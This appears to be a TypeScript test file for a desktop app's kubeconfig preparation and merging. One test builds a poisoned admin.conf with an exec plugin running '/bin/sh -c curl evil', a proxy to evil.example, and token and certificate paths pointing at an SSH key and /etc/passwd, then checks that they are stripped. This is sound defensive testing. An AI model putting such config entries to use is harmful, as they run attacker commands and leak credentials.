import assert from 'node:assert/strict';
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path, { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse } from 'yaml';
import { resolveDataDir } from '../../../electron/services/app/data-dir';
import { kubeAccess, prepareKubeconfig } from '../../../electron/services/kube/kubeconfig';
import { mergeKubeconfig, removeKubeconfigContext, userKubeconfigPath } from '../../../electron/services/kube/merge';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const ADMIN_CONF = `apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: ${b64('CA')}
    server: https://10.0.1.4:6443
  name: dev
contexts:
- context: {cluster: dev, user: kubernetes-admin}
  name: kubernetes-admin@dev
current-context: kubernetes-admin@dev
users:
- name: kubernetes-admin
  user:
    client-certificate-data: ${b64('CERT')}
    client-key-data: ${b64('KEY')}
`;

describe('kubeconfig', () => {
  const dir = mkdtempSync(join(tmpdir(), 'fk-kc-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('rewrites the server and renames the entries', () => {
    const out = prepareKubeconfig(ADMIN_CONF, { cluster: 'dev', server: 'https://20.1.2.3:6443' });
    const a = kubeAccess(out);
    assert.deepEqual(a, { server: 'https://20.1.2.3:6443', caPem: 'CA', certPem: 'CERT', keyPem: 'KEY' });
    assert.equal((parse(out) as { 'current-context': string })['current-context'], 'flatkube-dev');
    assert.throws(() => prepareKubeconfig('apiVersion: v1\nkind: Config\n', { cluster: 'dev', server: 'https://x' }), /no cluster CA/);
  });

  it('keeps only the credentials it needs from admin.conf: nothing a control plane planted reaches the desktop', () => {
    // A compromised control plane can serve any admin.conf: kubectl would act on these fields
    // (read a local file as a token, send it through a proxy, run a program, name another server).
    const planted = ADMIN_CONF.replace(
      `    server: https://10.0.1.4:6443\n`,
      `    server: https://10.0.1.4:6443\n    proxy-url: http://evil.example:3128\n    tls-server-name: evil.example\n    insecure-skip-tls-verify: true\n    extensions: [{name: x, extension: {a: 1}}]\n`,
    ).replace(
      `    client-key-data: ${b64('KEY')}\n`,
      `    client-key-data: ${b64('KEY')}\n    tokenFile: /home/u/.ssh/id_ed25519\n    token: stolen\n    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil']}\n    auth-provider: {name: oidc}\n    as: system:admin\n    username: u\n    password: p\n    client-certificate: /etc/passwd\n`,
    );
    assert.notEqual(planted, ADMIN_CONF);
    const out = parse(prepareKubeconfig(planted, { cluster: 'dev', server: 'https://20.1.2.3:6443' })) as {
      clusters: { cluster: Record<string, unknown> }[];
      users: { user: Record<string, unknown> }[];
      contexts: { context: Record<string, unknown> }[];
    };
    assert.deepEqual(out.clusters[0]!.cluster, { server: 'https://20.1.2.3:6443', 'certificate-authority-data': b64('CA') });
    assert.deepEqual(out.users[0]!.user, { 'client-certificate-data': b64('CERT'), 'client-key-data': b64('KEY') });
    assert.deepEqual(out.contexts[0]!.context, { cluster: 'flatkube-dev', user: 'flatkube-dev-admin' });
  });

  it('refuses an admin.conf without a client key, or with credentials that are not base64 text', () => {
    const opts = { cluster: 'dev', server: 'https://20.1.2.3:6443' };
    assert.throws(() => prepareKubeconfig(ADMIN_CONF.replace(/ {4}client-key-data: .*\n/, ''), opts), /admin\.conf has no client key \(client-key-data\)/);
    assert.throws(() => prepareKubeconfig(ADMIN_CONF.replace(/ {4}client-certificate-data: .*\n/, ''), opts), /admin\.conf has no client certificate \(client-certificate-data\)/);
    assert.throws(() => prepareKubeconfig(ADMIN_CONF.replace(/(certificate-authority-data: ).*/, '$1{a: 1}'), opts), /certificate-authority-data/);
    assert.throws(() => prepareKubeconfig(ADMIN_CONF.replace(/(client-key-data: ).*/, '$1"not base64!"'), opts), /client-key-data/);
  });

  it('merges into KUBECONFIG\'s first file, replaces its own entries, removes them again', async () => {
    const target = join(dir, 'config');
    const env = { KUBECONFIG: `${target}:${join(dir, 'second')}` };
    assert.equal(userKubeconfigPath({ env }), target);
    assert.equal(userKubeconfigPath({ env: {}, home: '/home/u' }), '/home/u/.kube/config');
    const ours = prepareKubeconfig(ADMIN_CONF, { cluster: 'dev', server: 'https://20.1.2.3:6443' });
    const first = await mergeKubeconfig(ours, { env });
    assert.equal(first.backupPath, undefined, 'nothing to back up yet');
    writeFileSync(target, readFileSync(target, 'utf8').replace('current-context: flatkube-dev', '') + 'current-context: other\n');
    const again = await mergeKubeconfig(ours, { env, setCurrentContext: true });
    assert.ok(again.backupPath);
    const merged = parse(readFileSync(target, 'utf8')) as { contexts: unknown[]; clusters: unknown[]; 'current-context': string };
    assert.equal(merged.contexts.length, 1);
    assert.equal(merged.clusters.length, 1);
    assert.equal(merged['current-context'], 'flatkube-dev');
    const removed = await removeKubeconfigContext('flatkube-dev', { env });
    assert.equal(removed.removed, true);
    const left = parse(readFileSync(target, 'utf8')) as { contexts: unknown[]; users: unknown[]; 'current-context'?: string };
    assert.deepEqual([left.contexts.length, left.users.length, left['current-context']], [0, 0, undefined]);
    assert.equal((await removeKubeconfigContext('flatkube-dev', { env })).removed, false);
  });

  it('writes through a symlinked kubeconfig (dotfile managers): the link stays, the backup sits beside its target', async () => {
    const dotfiles = join(dir, 'dotfiles');
    const kube = join(dir, 'home', '.kube');
    mkdirSync(dotfiles, { recursive: true });
    mkdirSync(kube, { recursive: true });
    const target = join(dotfiles, 'kubeconfig');
    writeFileSync(target, 'apiVersion: v1\nkind: Config\ncurrent-context: mine\ncontexts: [{name: mine, context: {cluster: c, user: u}}]\n');
    const link = join(kube, 'config');
    symlinkSync('../../dotfiles/kubeconfig', link);
    const ours = prepareKubeconfig(ADMIN_CONF, { cluster: 'dev', server: 'https://20.1.2.3:6443' });
    const merged = await mergeKubeconfig(ours, { path: link });
    assert.ok(lstatSync(link).isSymbolicLink(), 'the link was replaced by a file');
    assert.equal(readlinkSync(link), '../../dotfiles/kubeconfig');
    const cfg = parse(readFileSync(target, 'utf8')) as { contexts: { name: string }[]; 'current-context': string };
    assert.deepEqual(cfg.contexts.map((c) => c.name), ['mine', 'flatkube-dev']);
    assert.equal(cfg['current-context'], 'mine');
    assert.equal(statSync(target).mode & 0o777, 0o600);
    assert.equal(path.dirname(merged.backupPath!), dotfiles, 'backup beside the target');
    assert.match(readFileSync(merged.backupPath!, 'utf8'), /current-context: mine/);
    assert.deepEqual(readdirSync(kube), ['config'], 'nothing left beside the link');

    const removed = await removeKubeconfigContext('flatkube-dev', { path: link });
    assert.equal(removed.removed, true);
    assert.ok(lstatSync(link).isSymbolicLink());
    assert.equal(path.dirname(removed.backupPath!), dotfiles);
    assert.deepEqual((parse(readFileSync(target, 'utf8')) as { contexts: { name: string }[] }).contexts.map((c) => c.name), ['mine']);

    // A link whose target does not exist yet: the file is created where it points.
    const dangling = join(kube, 'dangling');
    symlinkSync('../../dotfiles/new-config', dangling);
    await mergeKubeconfig(ours, { path: dangling });
    assert.ok(lstatSync(dangling).isSymbolicLink());
    assert.match(readFileSync(join(dotfiles, 'new-config'), 'utf8'), /flatkube-dev/);
  });

  it('data dir: FLATKUBE_DATA_DIR, else the OS default', () => {
    assert.equal(resolveDataDir({ FLATKUBE_DATA_DIR: '/x/y' }, 'linux', '/h'), '/x/y');
    assert.equal(resolveDataDir({}, 'linux', '/h'), '/h/.config/flatkube');
    assert.equal(resolveDataDir({ XDG_CONFIG_HOME: '/c' }, 'linux', '/h'), '/c/flatkube');
  });
});
